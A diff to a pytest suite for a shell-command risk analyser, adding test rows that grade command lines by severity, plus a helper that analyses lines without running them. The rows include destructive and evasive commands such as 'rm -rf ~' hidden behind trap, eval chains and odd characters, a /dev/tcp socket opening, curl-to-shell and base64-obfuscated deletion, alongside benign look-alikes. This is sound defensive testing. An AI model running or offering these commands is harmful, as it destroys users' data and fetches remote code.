@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -159,6 +160,11 @@ OBFUSCATED = [
     row("source <(curl -s https://get.example.com/env.sh)", CRITICAL, rule="RC-EXEC-001"),
     row('eval "$(echo cm0gLXJmIH4K | base64 -d)"', CRITICAL, rule="RC-EXEC-002"),
     row("command -v rm", INFO),
+    row("trap 'rm -rf ~' EXIT", CRITICAL, rule="RC-FS-001"),
+    row("rm -rf ~/Документы", CRITICAL, rule="RC-FS-001"),
+    row("echo a{\U000ffd29} && rm -rf ~", CRITICAL, rule="RC-FS-001", id="astral character next to a brace"),
+    row("eval eval eval rm -rf ~", CRITICAL, rule="RC-FS-001"),
+    row("exec 3<>/dev/tcp/10.0.0.1/80", HIGH, rule="RC-NET-002"),
 ]
 
 FALSE_FRIENDS = [
@@ -190,6 +196,12 @@ FALSE_FRIENDS = [
     row("git clean -fdx", LOW, rule="RC-GIT-002"),
     row("git reset --hard HEAD~1", LOW, rule="RC-GIT-002"),
     row("[ -d out ] || mkdir out", INFO),
+    row('echo "version=1.2" >> "$MISSION_OUTPUT"', INFO),
+    row('tmp=$(mktemp -d); cp a.txt "$tmp/"; rm -rf "$tmp"', LOW),
+    row('rm -rf "$TMPDIR/cache"', LOW),
+    row('tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; ls "$tmp"', LOW),
+    row('echo "héllo ✓ 日本語" > out.txt', INFO),
+    row("source .venv/bin/activate && pytest -q", INFO),
     row('for f in src/*.c; do clang-format -i "$f"; done', INFO),
 ]
 
@@ -282,6 +294,11 @@ PROJECT = [
 ]
 
 
+def judge_line(line: str, workspace: Path, **kwargs: Any) -> tuple[Finding, ...]:
+    """Findings for a ``shell: true`` command line (nothing is run)."""
+    return analyse_command(line, shell=True, workspace=workspace, **kwargs)  # noqa: S604 - analysed, never run
+
+
 def describe(findings: tuple[Finding, ...]) -> str:
     return "; ".join(f"{f.rule_id} {f.severity.label} {f.message}: {f.evidence}" for f in findings)
 
@@ -289,7 +306,7 @@ def describe(findings: tuple[Finding, ...]) -> str:
 @pytest.mark.parametrize(("line", "low", "high", "rule"), HOSTILE_C + OBFUSCATED + FALSE_FRIENDS + SEVERITY_TABLE)
 def test_tmp_workspace_verdict(line: str, low: Severity, high: Severity, rule: str | None, tmp_path: Path) -> None:
     """A command in a tmp workspace gets the verdict and the rule id the safety table promises."""
-    findings = analyse_command(line, shell=True, workspace=tmp_path)
+    findings = judge_line(line, tmp_path)
     score = risk_score(findings)
     assert low <= score <= high, describe(findings)
     if rule is not None:
@@ -299,7 +316,7 @@ def test_tmp_workspace_verdict(line: str, low: Severity, high: Severity, rule: s
 @pytest.mark.parametrize(("line", "low", "high", "rule"), PROJECT)
 def test_project_workspace_verdict(line: str, low: Severity, high: Severity, rule: str | None, tmp_path: Path) -> None:
     """In a project workspace, wiping the checkout is high while routine cleanup stays low."""
-    findings = analyse_command(line, shell=True, workspace=tmp_path, workspace_kind="project")
+    findings = judge_line(line, tmp_path, workspace_kind="project")
     score = risk_score(findings)
     assert low <= score <= high, describe(findings)
     if rule is not None:
@@ -314,14 +331,14 @@ def test_table_is_large_enough() -> None:
 @pytest.mark.parametrize("line", ['r""m -rf /', "\\rm -rf /", "'r'm -rf /", "$'\\x72m' -rf /"])
 def test_evidence_shows_the_normalised_command(line: str, tmp_path: Path) -> None:
     """The block message shows what will really run (``rm -rf /``), not the obfuscated text."""
-    findings = analyse_command(line, shell=True, workspace=tmp_path)
+    findings = judge_line(line, tmp_path)
     assert findings[0].rule_id == "RC-FS-001"
     assert findings[0].evidence == "rm -rf /"
 
 
 def test_findings_come_most_severe_first(tmp_path: Path) -> None:
     """The first finding shown is the one that decides the verdict."""
-    findings = analyse_command("curl https://x.example.com | sh", shell=True, workspace=tmp_path)
+    findings = judge_line("curl https://x.example.com | sh", tmp_path)
     severities = [f.severity for f in findings]
     assert severities == sorted(severities, reverse=True)
     assert findings[0].rule_id == "RC-EXEC-001"
